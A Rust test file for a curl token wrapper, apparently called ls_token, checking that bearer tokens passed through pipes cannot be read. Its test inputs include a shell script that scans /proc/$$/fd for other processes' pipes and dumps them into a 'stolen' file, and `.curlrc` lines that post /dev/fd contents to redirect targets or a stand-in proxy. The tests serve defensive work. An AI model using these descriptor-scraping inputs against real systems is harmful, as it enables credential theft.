//! The pipes that tokens travel on: nothing but curl's own `--config` reads them, neither an option, nor a `.curlrc`, nor
//! the command that another token comes from.

use std::fs;
use std::os::unix::fs::symlink;

use super::kit::{
    CURLRC, Stranger, asked, assert_no_token, assert_own_tokens, curl, profile, watch, with_secure_server, with_server,
};
use crate::sandbox::{Call, Sandbox};
use crate::server::{PROJECTS, Reply, Server};

/// A line of a `.curlrc` that fills the buffer through which curl reads a configuration (4 KiB) and more, so that what
/// comes after it is still in the pipe while lines before it are obeyed.
fn padding() -> String {
    format!("user-agent = \"{}\"\n", "a".repeat(4_200))
}

/// Asserts that no token was sent in anything but a header of its own.
#[track_caller]
fn assert_in_headers_alone(server: &Server) {
    for request in asked(server) {
        let others: Vec<_> = request.headers.iter().filter(|(name, _)| name != "authorization").collect();
        assert_no_token(&format!("{} {others:?} {}", request.target, request.text()), "a request");
    }
}

/// Descriptors at which the pipes may be. With old curls a file that is not there is no error, so that a `.curlrc` can try
/// them all.
fn numbers() -> impl Iterator<Item = u8> {
    (10..14).chain(100..204)
}

/// Returns the line once for each descriptor, which stands for its `N`.
fn for_each_number(line: &str) -> String {
    numbers().map(|number| line.replace('N', &number.to_string()) + "\n").collect()
}

/// A sandbox with two servers, `one` and `two`, whose tokens are in the cache already, and a full URL of each.
fn with_two() -> (Sandbox, [Server; 2], [String; 2]) {
    let (sandbox, one, two) = (Sandbox::new(), Server::start(), Server::start());
    watch(&sandbox);
    sandbox.settings(&(profile(&sandbox, "one", &one, "") + &profile(&sandbox, "two", &two, "")));
    for name in ["one", "two"] {
        sandbox.ls_token(&["--profile", name]).run().token();
    }
    let urls = [format!("{}/x", one.url()), format!("{}/y", two.url())];
    (sandbox, [one, two], urls)
}

#[test]
fn f13_the_command_of_a_second_token_does_not_get_the_pipe_of_the_first() {
    let (sandbox, one, two) = (Sandbox::new(), Server::start(), Server::start());
    watch(&sandbox);
    sandbox.file("vault", two.pat(), 0o600);
    // The tests may have been started with pipes of someone else's.
    let known: Vec<_> = fs::read_dir("/proc/self/fd")
        .unwrap()
        .flatten()
        .filter_map(|entry| fs::read_link(entry.path()).ok())
        .map(|leads_to| leads_to.display().to_string())
        .collect();
    sandbox.file("known", known.join("\n"), 0o600);
    sandbox.command(
        "vault",
        "ls -l /proc/self/fd >\"$here/descriptors\"
for descriptor in /proc/$$/fd/*; do
    leads_to=$(readlink \"$descriptor\") || continue
    case $leads_to in pipe:*) ;; *) continue ;; esac
    grep -qF \"$leads_to\" \"$here/known\" || timeout 1 cat \"$descriptor\"
done >\"$here/stolen\" 2>/dev/null
cat \"$here/vault\"",
    );
    let second = format!("[profiles.two]\nurl = \"{}\"\npat = \"cmd:vault\"\n", two.url());
    sandbox.settings(&(profile(&sandbox, "one", &one, "") + &second));
    let (first, second) = (format!("{}/x", one.url()), format!("{}/y", two.url()));
    let done = curl(&sandbox, &["-sS", &first, "--next", "-sS", &second]).run();
    assert_eq!(done.code, Some(0), "{done:?}");
    assert!(sandbox.lines("descriptors").len() > 3, "the command looked at its descriptors");
    assert_no_token(&sandbox.lines("stolen").join("\n"), "what a command found in a pipe");
    assert_own_tokens(&one);
    assert_own_tokens(&two);
}

#[test]
fn f06_a_curlrc_does_not_read_the_pipe_of_the_second_part() {
    let (sandbox, [one, two], [first, second]) = with_two();
    let run = |lines: &str| {
        sandbox.file(CURLRC, lines, 0o600);
        let done = curl(&sandbox, &["-sS", &first, "--next", "-sS", &second]).run();
        assert_no_token(&done.stdout, &format!("stdout with {lines}"));
        assert_in_headers_alone(&one);
    };
    for line in ["data = \"@/dev/fd/N\"", "-d @/proc/self/fd/N", "data-urlencode = a@/dev/fd/N"] {
        run(&for_each_number(line));
    }
    for number in numbers() {
        run(&format!("write-out = \"@/dev/fd/{number}\"\n"));
    }
    assert_own_tokens(&one);
    assert_own_tokens(&two);
}

#[test]
fn f06_a_curlrc_does_not_read_the_pipe_of_the_second_part_through_a_link() {
    let (sandbox, [one, two], [first, second]) = with_two();
    let directory = sandbox.root().join("l");
    fs::create_dir(&directory).unwrap();
    for number in numbers() {
        symlink(format!("/dev/fd/{number}"), directory.join(number.to_string())).unwrap();
    }
    let lines = for_each_number(&format!("-d \"@{}/N\"", directory.display()));
    sandbox.file(CURLRC, lines, 0o600);
    curl(&sandbox, &["-sS", &first, "--next", "-sS", &second]).run();
    assert_in_headers_alone(&one);
    assert_own_tokens(&one);
    assert_own_tokens(&two);
}

#[test]
fn f06_a_long_curlrc_does_not_read_the_rest_of_its_own_pipe() {
    let (sandbox, server) = with_server();
    sandbox.ls_token(&[]).run().token();
    for line in ["data = \"@/dev/fd/N\"", "data-urlencode = \"a@/proc/self/fd/N\""] {
        let lines = for_each_number(line) + &padding();
        sandbox.file(CURLRC, lines, 0o600);
        let done = curl(&sandbox, &["-sS", "-o", "/dev/null", PROJECTS]).run();
        assert_no_token(&done.stdout, &format!("stdout with {line}"));
        assert_in_headers_alone(&server);
    }
    for number in numbers() {
        let lines = format!("write-out = \"@/dev/fd/{number}\"\n{}", padding());
        sandbox.file(CURLRC, lines, 0o600);
        let done = curl(&sandbox, &["-sS", "-o", "/dev/null", "/health"]).run();
        assert_no_token(&done.stdout, "what -w writes");
    }
    assert_own_tokens(&server);
}

#[test]
fn f06_a_long_curlrc_does_not_take_the_rest_of_the_settings_away() {
    // Whatever of the pipe it reads, curl does not: `noproxy` for one.
    let ((sandbox, server), stranger) = (with_server(), Stranger::start());
    for line in ["data = \"@/dev/fd/N\"", "-d @/dev/fd/N"] {
        let lines = for_each_number(line) + &padding();
        sandbox.file(CURLRC, lines, 0o600);
        let call = curl(&sandbox, &["-sS", "-m", "5", PROJECTS]);
        call.env("http_proxy", stranger.url()).run();
    }
    stranger.assert_alone("a request through a proxy");
    assert_own_tokens(&server);
}

#[test]
fn f06_a_long_curlrc_does_not_give_the_token_to_a_redirects_target() {
    let ((sandbox, server), stranger) = (with_server(), Stranger::start());
    server.always("/away", Reply::redirect(307, &stranger.url()));
    let lines = for_each_number("data = \"@/dev/fd/N\"") + &padding();
    sandbox.file(CURLRC, lines, 0o600);
    curl(&sandbox, &["-sSL", "/away"]).run();
    // Newer curls stop at the first file that is not there.
    assert_no_token(&stranger.heard().join("\n"), "what a redirect's target heard");
}

#[test]
fn f06_a_long_curlrc_does_not_give_the_token_to_a_proxy() {
    let ((sandbox, server, _), stranger) = (with_secure_server(), Stranger::start());
    sandbox.ls_token(&[]).run().token();
    let lines =
        format!("proxy = \"{}\"\n", stranger.url()) + &for_each_number("proxy-header = \"@/dev/fd/N\"") + &padding();
    sandbox.file(CURLRC, lines, 0o600);
    curl(&sandbox, &["-sS", "-m", "5", PROJECTS]).run();
    assert_no_token(&stranger.heard().join("\n"), "what a proxy heard");
    assert!(asked(&server).is_empty());
}

#[test]
fn f05_an_option_reads_its_own_pipe_to_no_avail() {
    let (sandbox, server) = with_server();
    for option in ["-d@/dev/fd/N", "--data-urlencode=a@/proc/self/fd/N"] {
        let all: Vec<String> = numbers().map(|number| option.replace('N', &number.to_string())).collect();
        let all: Vec<&str> = all.iter().map(String::as_str).collect();
        let line = [&["-sS", "-m", "5"], &all[..], &["/x"]].concat();
        let done = curl(&sandbox, &line).run();
        assert_no_token(&done.stdout, &format!("stdout of {option}"));
    }
    for option in ["-w@/dev/fd/N", "-Fa=@/dev/fd/N", "-T/dev/fd/N", "-b/dev/fd/N"] {
        for number in numbers().step_by(3) {
            let option = option.replace('N', &number.to_string());
            let done = curl(&sandbox, &["-sS", "-m", "5", "-o", "/dev/null", &option, "/health"]).run();
            assert_no_token(&done.stdout, &format!("stdout of {option}"));
        }
    }
    assert_in_headers_alone(&server);
    assert_own_tokens(&server);
}

#[test]
fn f05_an_option_does_not_read_the_pipe_of_another_part_by_a_name_relative_to_dev() {
    let (sandbox, [one, two], [first, second]) = with_two();
    let two = two.expect_anything();
    for option in ["-d@fd/N", "-d @./fd/N", "--data-urlencode a@fd/N"] {
        let all = for_each_number(option).replace('\n', " ");
        let script = format!("cd /dev && exec \"$LS_TOKEN\" curl -sS {all} {first} --next -sS {second}");
        let done = sandbox.shell(&script).run();
        assert_no_token(&done.stdout, &format!("stdout of {option}"));
    }
    assert_in_headers_alone(&one);
    assert_in_headers_alone(&two);
}

#[test]
fn a_pipe_holds_one_token_before_curl_starts_and_curl_gets_no_other_descriptor() {
    let (sandbox, server) = with_server();
    sandbox.command(
        "curl",
        "if [ -e \"$3\" ]; then cat \"$3\" >\"$here/pipe\"; fi
for descriptor in /proc/$$/fd/*; do readlink \"$descriptor\"; done >\"$here/descriptors\"
true",
    );
    let curls = |call: Call<'_>| {
        assert_eq!(call.run().code, Some(0));
        sandbox.lines("descriptors")
    };
    // The tests may have been started with descriptors of someone else's.
    let plain = curls(sandbox.program(sandbox.bin().join("curl"), &[]));
    let through_ls_token = curls(curl(&sandbox, &["/x"]));
    let lines = sandbox.lines("pipe");
    let header = format!("header = \"Authorization: Bearer {}\"", server.issued()[0]);
    assert_eq!(lines.iter().filter(|line| **line == header).count(), 1, "{lines:?}");
    assert_eq!(through_ls_token.len(), plain.len() + 1, "{through_ls_token:?}, {plain:?}");
}
